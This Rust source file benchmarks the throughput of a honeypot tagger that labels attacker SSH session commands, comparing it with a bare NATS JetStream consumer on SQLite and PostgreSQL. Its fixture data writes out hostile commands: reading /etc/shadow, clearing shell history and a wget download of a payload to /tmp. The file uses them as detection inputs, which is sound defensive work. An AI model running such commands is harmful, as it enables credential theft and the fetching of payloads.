//! Tagger throughput against a bare JetStream consumer, in one run on one machine.
//!
//! `cargo bench -p decnet-tagger --bench throughput [-- EVENTS]` (default 20,000) starts a
//! private nats-server, publishes a realistic mix of session events (about one in ten with a
//! command a rule tags; ten sessions per attacker address, as bots come back), then drains the stream twice: once with a consumer that only acks
//! (the same runner, fetch size and double ack as the tagger), once with the tagger writing
//! to SQLite — and to PostgreSQL too when `DECNET_TEST_DATABASE_URL` is set. It prints both
//! rates, their ratio and the process's peak resident memory.

#![allow(
    clippy::disallowed_macros,
    reason = "the report on stdout is this program's product"
)]

use std::path::Path;
use std::time::{Duration, Instant};

use async_nats::jetstream;
use decnet_bus::{ConsumerSpec, Delivery, Handler, Outcome, RunnerConfig};
use decnet_storage::{Database, Options};
use decnet_tagger::{TaggerConfig, consumer_spec};
use decnet_test_support::NatsServer;
use serde_json::json;
use tokio::sync::watch;

const HARMLESS: [&str; 6] = ["ls -la", "pwd", "echo hi", "cd /home", "exit", "clear"];
const TAGGED: [&str; 4] = [
    "uname -a",
    "cat /etc/shadow",
    "history -c",
    "wget http://198.51.100.9/x -O /tmp/x",
];

fn session(i: usize) -> Vec<u8> {
    let command = if i.is_multiple_of(10) {
        TAGGED[(i / 10) % TAGGED.len()]
    } else {
        HARMLESS[i % HARMLESS.len()]
    };
    let a = i / 10;
    let ip = format!("10.{}.{}.{}", a / 65_536, (a / 256) % 256, a % 256);
    serde_json::to_vec(
        &json!({"session_id": format!("b-{i}"), "attacker_ip": ip, "decky_id": "decoy-01",
        "service": "ssh", "ended_at": "2026-12-04T10:01:00Z", "duration_s": 4.0,
        "commands": [{"command_text": command, "ts": "2026-12-04T10:00:00Z"}]}),
    )
    .unwrap()
}

struct AckOnly;

impl Handler for AckOnly {
    async fn handle(&mut self, batch: &[Delivery]) -> Vec<Outcome> {
        vec![Outcome::Done; batch.len()]
    }
}

async fn drained(js: &jetstream::Context, durable: &str) -> bool {
    let Ok(stream) = js.get_stream("EVENTS").await else {
        return false;
    };
    let Ok(mut c) = stream
        .get_consumer::<jetstream::consumer::pull::Config>(durable)
        .await
    else {
        return false;
    };
    let info = c.info().await.unwrap().clone();
    info.num_pending == 0 && info.num_ack_pending == 0
}

fn peak_rss_mib() -> f64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines().find(|l| l.starts_with("VmHWM:")).and_then(|l| {
                l.split_whitespace()
                    .nth(1)
                    .and_then(|kb| kb.parse::<f64>().ok())
            })
        })
        .map_or(f64::NAN, |kb| kb / 1024.0)
}

async fn bare(js: &jetstream::Context, n: usize) -> Duration {
    let spec = ConsumerSpec {
        durable: "bare".into(),
        ..consumer_spec()
    };
    let consumer = decnet_bus::ensure_consumer(js, &spec).await.unwrap();
    let (stop, shutdown) = watch::channel(false);
    let start = Instant::now();
    let task = {
        let (js, consumer) = (js.clone(), consumer.clone());
        tokio::spawn(async move {
            let config = RunnerConfig {
                fetch_wait: Duration::from_millis(100),
                ..RunnerConfig::new("bench", "bare")
            };
            decnet_bus::run(&js, &consumer, &mut AckOnly, &config, shutdown).await
        })
    };
    while !drained(js, "bare").await {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let took = start.elapsed();
    stop.send(true).unwrap();
    task.await.unwrap().unwrap();
    let _ = n;
    took
}

async fn tagger(
    server: &NatsServer,
    js: &jetstream::Context,
    database_url: &str,
) -> (Duration, i64) {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/ttp");
    let mut config = TaggerConfig::new(&server.url(), database_url, Some(rules));
    config.fetch_wait = Duration::from_millis(100);
    if let Some(batch) = std::env::var("DECNET_TAGGER_BATCH")
        .ok()
        .and_then(|b| b.parse().ok())
    {
        config.batch = batch;
    }
    let db = Database::connect(database_url, &Options::default())
        .await
        .unwrap();
    // A fresh consumer per run, so each backend drains the whole stream.
    let stream = js.get_stream("EVENTS").await.unwrap();
    let _ = stream.delete_consumer("tagger").await;
    let (stop, shutdown) = watch::channel(false);
    let start = Instant::now();
    let task = tokio::spawn(async move { decnet_tagger::run(&config, shutdown).await });
    loop {
        if drained(js, "tagger").await && db.pending_count("tagger").await.unwrap() == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let took = start.elapsed();
    stop.send(true).unwrap();
    task.await.unwrap().unwrap();
    (took, db.tag_count().await.unwrap())
}

fn rate(n: usize, d: Duration) -> String {
    format!(
        "{:>9.0} events/s ({:.2} s)",
        n as f64 / d.as_secs_f64(),
        d.as_secs_f64()
    )
}

#[tokio::main]
async fn main() {
    let n: usize = std::env::args()
        .skip(1)
        .find_map(|a| a.parse().ok())
        .unwrap_or(20_000);
    let server = NatsServer::start().unwrap();
    let client = decnet_bus::connect(&server.url(), "bench", Duration::from_secs(5))
        .await
        .unwrap();
    let js = jetstream::new(client);
    decnet_bus::ensure_streams(&js, &["EVENTS", "TTP", "DLQ"])
        .await
        .unwrap();
    let mut acks = Vec::new();
    for i in 0..n {
        let mut headers = async_nats::HeaderMap::new();
        headers.insert("Nats-Msg-Id", format!("bench-{i}").as_str());
        acks.push(
            js.publish_with_headers("attacker.session.ended", headers, session(i).into())
                .await
                .unwrap(),
        );
        if acks.len() == 1000 {
            for a in acks.drain(..) {
                a.await.unwrap();
            }
        }
    }
    for a in acks {
        a.await.unwrap();
    }
    println!(
        "{n} session events published from {} attackers, about one in ten tagged",
        n.div_ceil(10)
    );

    let bare_time = bare(&js, n).await;
    println!("bare consumer (ack only)  {}", rate(n, bare_time));

    let dir = tempfile::tempdir().unwrap();
    let sqlite = format!("sqlite://{}", dir.path().join("bench.db").display());
    let (t, tags) = tagger(&server, &js, &sqlite).await;
    println!("tagger, SQLite            {}  {tags} tags", rate(n, t));
    println!(
        "  ratio tagger/bare = {:.2}  (target ≥ 0.5)",
        bare_time.as_secs_f64() / t.as_secs_f64()
    );

    if let Some(admin) = std::env::var("DECNET_TEST_DATABASE_URL")
        .ok()
        .filter(|u| !u.is_empty())
    {
        use sqlx::Connection;
        let name = format!("decnet_bench_{}", std::process::id());
        let mut conn = sqlx::PgConnection::connect(&admin).await.unwrap();
        sqlx::query(&format!("CREATE DATABASE {name}"))
            .execute(&mut conn)
            .await
            .unwrap();
        let url = format!("{}/{name}", admin.rsplit_once('/').unwrap().0);
        let (t, tags) = tagger(&server, &js, &url).await;
        println!("tagger, PostgreSQL        {}  {tags} tags", rate(n, t));
        println!(
            "  ratio tagger/bare = {:.2}  (target ≥ 0.5)",
            bare_time.as_secs_f64() / t.as_secs_f64()
        );
        sqlx::query(&format!("DROP DATABASE {name} WITH (FORCE)"))
            .execute(&mut conn)
            .await
            .unwrap();
    }
    println!("peak RSS of the process  {:.0} MiB", peak_rss_mib());
}
